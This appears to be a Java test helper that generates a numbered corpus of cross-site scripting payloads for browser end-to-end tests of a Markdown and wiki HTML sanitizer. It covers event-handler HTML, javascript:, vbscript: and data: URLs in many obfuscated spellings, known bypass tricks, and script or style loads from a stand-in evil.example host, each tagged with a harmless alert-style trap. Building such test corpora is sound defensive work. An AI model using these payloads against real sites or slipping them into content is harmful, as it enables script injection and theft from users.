package app.stepwise.e2e;

import app.stepwise.content.HostilePayloads;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Hostile Markdown (and wiki HTML) for the browser, built with the jsoup-level corpus's URL spellings and positions
 * ({@code content.HostilePayloads}): raw HTML with event handlers, script-like URL schemes in many spellings in every place
 * Markdown puts a URL, known sanitizer bypass tricks, and HTML that could turn into a live Markdown link on import.
 * <p>
 * Unlike that corpus, every piece of JavaScript in payload {@code N} calls a trap with {@code N} ({@code alert(N)},
 * {@code confirm(N)}, {@code prompt(N)}, {@code top.__xss(N)}, or a {@code postMessage} from a nested document), so a
 * script that runs in the browser names the payload it came from.
 */
final class AttributablePayloads {

    private AttributablePayloads() {
    }

    /** Payload {@code N} is element {@code N}; all distinct. */
    static List<String> all() {
        Set<String> templates = new LinkedHashSet<>();
        templates.addAll(rawHtmlWithHandlers());
        templates.addAll(schemesInEveryUrlPosition());
        templates.addAll(knownTricks());
        templates.addAll(wikiHtmlThatCouldBecomeMarkdownLinks());
        List<String> payloads = new ArrayList<>();
        for (String template : templates) {
            payloads.add(fill(template, payloads.size()));
        }
        return List.copyOf(payloads);
    }

    /**
     * Placeholders: {@code {js}} a trap call in this page, rotating over the trapped functions; {@code {n}} the number;
     * {@code {frame}} a call from a nested document (data: URL, srcdoc), where {@code top.__xss} is out of reach but
     * {@code postMessage} is not; {@code {b64frame}} a base64 HTML document running {@code {frame}}.
     */
    static String fill(String template, int number) {
        String js = switch (number % 4) {
            case 0 -> "alert(" + number + ")";
            case 1 -> "top.__xss(" + number + ")";
            case 2 -> "confirm(" + number + ")";
            default -> "prompt(" + number + ")";
        };
        String frame = "parent.postMessage('__xss:" + number + "','*')";
        String b64frame = Base64.getEncoder()
                .encodeToString(("<script>" + frame + "</script>").getBytes(StandardCharsets.UTF_8));
        return template.replace("{js}", js).replace("{frame}", frame).replace("{b64frame}", b64frame)
                .replace("{n}", Integer.toString(number));
    }

    static List<String> rawHtmlWithHandlers() {
        List<String> tags = List.of(
                "<img src=x %s={js}>", "<svg %s={js}>", "<body %s={js}>", "<div %s={js}>x</div>",
                "<a href=# %s={js}>x</a>", "<iframe %s={js}></iframe>", "<input autofocus %s={js}>",
                "<details open %s={js}>", "<video src=x %s={js}>", "<audio src=x %s={js}>",
                "<marquee %s={js}>x</marquee>", "<select autofocus %s={js}>", "<textarea autofocus %s={js}>",
                "<object data=x %s={js}>", "<embed src=x %s={js}>", "<math %s={js}>", "<style %s={js}></style>",
                "<button %s={js}>x</button>", "<form %s={js}><button>x</button></form>", "<p %s={js}>x</p>",
                "<table %s={js}><tr><td>x</td></tr></table>", "<span %s={js}>x</span>",
                "<svg><animate %s={js} attributeName=x dur=1s>", "<img src=x %s=\"{js}\">",
                "<x contenteditable %s={js}>x</x>", "<div popover id=p %s={js}>x</div>");
        List<String> handlers = List.of("onerror", "OnLoad", "onclick", "onmouseover", "onfocus", "ontoggle",
                "onbegin", "onanimationstart", "onpointerover");
        List<String> payloads = new ArrayList<>();
        for (int i = 0; i < tags.size(); i++) {
            // Two handlers per tag, rotating, keeps the corpus varied without a full cross product.
            payloads.add(tags.get(i).formatted(handlers.get(i % handlers.size())));
            payloads.add("Inline " + tags.get(i).formatted(handlers.get((i + 4) % handlers.size())) + " text");
        }
        return payloads;
    }

    static List<String> schemesInEveryUrlPosition() {
        List<String> urls = new ArrayList<>();
        urls.addAll(spellings("javascript", ":{js}"));
        urls.addAll(spellings("vbscript", ":msgbox({n})"));
        urls.addAll(spellings("livescript", ":{js}"));
        urls.addAll(List.of("data:text/html;base64,{b64frame}", "DATA:text/html,<script>{frame}</script>",
                "data:image/svg+xml,<svg onload={frame}>", "d&#97;ta:text/html,<script>{frame}</script>",
                " data:text/html,<script>{frame}</script>", "data:text/javascript,{js}", "data:,{js}"));
        return HostilePayloads.inEveryUrlPosition(urls, spellings("javascript", ":{js}"));
    }

    private static List<String> spellings(String scheme, String rest) {
        return HostilePayloads.spellings(scheme, rest);
    }

    static List<String> knownTricks() {
        return List.of(
                "<script>{js}</script>", "<SCRIPT SRC=//evil.example/{n}.js></SCRIPT>",
                "<scr<script>ipt>{js}</script>", "<!--><script>{js}</script>-->",
                "<![CDATA[<script>{js}</script>]]>", "<svg><script>{js}</script></svg>",
                "<svg><a xlink:href=\"javascript:{js}\"><text>x</text></a>",
                "<svg><a href=\"javascript:{js}\"><text>x</text></a>",
                "<math><mi xlink:href=\"javascript:{js}\">x</mi></math>",
                "<math href=\"javascript:{js}\">x</math>",
                "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
                "<iframe src=\"javascript:{js}\"></iframe>", "<iframe srcdoc=\"<script>{frame}</script>\">",
                "<iframe src=\"data:text/html;base64,{b64frame}\"></iframe>",
                "<object data=\"javascript:{js}\"></object>", "<embed src=\"javascript:{js}\">",
                "<style>@import 'http://evil.example/{n}.css';</style>",
                "<div style=\"background:url(javascript:{js})\">x</div>",
                "<div style=\"width:expression({js})\">x</div>",
                "<div style=\"animation:spin 1s\" onanimationstart={js}>x</div>",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{js}\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,{b64frame}\">",
                "<form action=\"javascript:{js}\"><input type=submit></form>",
                "<button formaction=\"javascript:{js}\">x</button>", "<base href=\"javascript:{js}//\">",
                "<link rel=stylesheet href=\"javascript:{js}\">", "<a href=\"javascript&colon;{js}\">x</a>",
                "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{js}\">x</a>",
                "[a](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{js})",
                "[[a](javascript:{js})](https://ok.example)", "[a](<javascript:{js}>)",
                "[a](javascript:{js} 'title')", "![x\" onerror=\"{js}](a.png)",
                "[a](https://ok.example \"a\\\" onmouseover=\\\"{js}\")", "# <img src=x onerror={js}>",
                "| a | b |\n|---|---|\n| <img src=x onerror={js}> | [x](javascript:{js}) |",
                "- [ ] <script>{js}</script>", "- [x] [task](javascript:{js})",
                "> <iframe src=javascript:{js}>", "`<script>{js}</script>`",
                "```html\n<script>{js}</script>\n```", "    <script>{js}</script>",
                "<a href=\"jav\tascript:{js}\">x</a>", "[a](java\u0000script:{js})",
                "[a](java%0ascript:{js})", "[a](java\\script:{js})", "[a](javascript\\:{js})",
                "![a](//evil.example/{n}.png)", "![a](http://evil.example/{n}.png)",
                "<img src=\"data:image/png;base64,AAAA\" alt={n}>", "<x onclick={js}>x</x>",
                "<a href=x onclick=\"{js}\" >x</a>", "<isindex action=javascript:{js} type=image>",
                "<frameset onload={js}>", "<applet code=x{n}></applet>", "<template><script>{js}</script></template>",
                "<template shadowrootmode=open><img src=x onerror={js}></template>",
                "<noscript><p title=\"</noscript><img src=x onerror={js}>\"></noscript>",
                "<img src=`x` onerror={js}>", "<img/src=x/onerror={js}>", "<svg/onload={js}>",
                "<img src=x onerror=&#97;lert({n})>", "<img src=x onerror=\"&#x61;lert({n})\">",
                "<img src=x onerror=\\u0061lert({n})>", "<a href=\"\u2028javascript:{js}\">x</a>",
                "[a](\u0001javascript:{js})", "*[a](javascript:{js})*", "**[a](javascript:{js})**",
                "~~<img src=x onerror={js}>~~", "<https://ok.example/\"onmouseover=\"{js}>",
                "<mailto:a@b.c\"onmouseover=\"{js}>", "[a](https://ok.example/\"onmouseover=\"{js})",
                "![a](https://ok.example/a.png\"onerror=\"{js})",
                "[a](https://ok.example/ \"\"onmouseover=\"{js}\")", "[a]: javascript:{js}\n\n[a]",
                "Footnote[^1]\n\n[^1]: [x](javascript:{js})",
                "<details open ontoggle={js}><summary>x</summary></details>",
                "<svg><foreignObject><iframe srcdoc=\"<script>{frame}</script>\"></iframe></foreignObject></svg>",
                "<svg><use href=\"data:image/svg+xml;base64,{b64frame}#x\"></use></svg>",
                "<svg><set attributeName=href to=\"javascript:{js}\"/><a><text>x</text></a></svg>",
                "<img srcset=\"javascript:{js} 1x\">", "<video poster=\"javascript:{js}\"></video>",
                "<area href=\"javascript:{js}\">", "<portal src=\"javascript:{js}\"></portal>",
                "<object data=\"data:text/html;base64,{b64frame}\"></object>");
    }

    /**
     * HTML from a wiki goes through the sanitizer, then Flexmark's HTML-to-Markdown converter, then the renderer: text
     * that looks like Markdown must come out escaped, not as a link, and attribute values must not break the Markdown.
     */
    static List<String> wikiHtmlThatCouldBecomeMarkdownLinks() {
        return List.of(
                "<p>[a](javascript:{js})</p>", "<p>&#91;a&#93;(javascript:{js})</p>",
                "<p>[r]: javascript:{js}</p><p>[x][r]</p>", "<p>&lt;javascript:{js}&gt;</p>",
                "<p>&lt;img src=x onerror={js}&gt;</p>", "<code>`</code>[a](javascript:{js})<code>`</code>",
                "<a href=\"https://ok.example/)(javascript:{js}\">x</a>",
                "<a href=\"https://ok.example/ &quot;onmouseover=&quot;{js}\">x</a>",
                "<a href=\"https://ok.example/\" title='\")[x](javascript:{js})'>x</a>",
                "<img src=\"https://ok.example/a.png\" alt=\"](javascript:{js})\">",
                "<img src=\"https://ok.example/a.png\" alt=\"x\" title='\") onerror=\"{js}'>",
                "<a href=\"jav&#x09;ascript:{js}\">x</a>", "<a href=\"JaVaScRiPt:{js}\">x</a>",
                "<a href=\"https://ok.example\">[inner](javascript:{js})</a>",
                "<h2>Steps</h2><ol><li><a href=\"javascript:{js}\">step</a></li></ol>",
                "<table><tr><td>[a](javascript:{js})</td></tr></table>",
                "<pre><code>```\n</code></pre>[a](javascript:{js})",
                "<blockquote><p>&gt; [a](vbscript:msgbox({n}))</p></blockquote>",
                "<p>\\[a\\](javascript:{js})</p>", "<p><em>[a</em>](javascript:{js})</p>");
    }

}
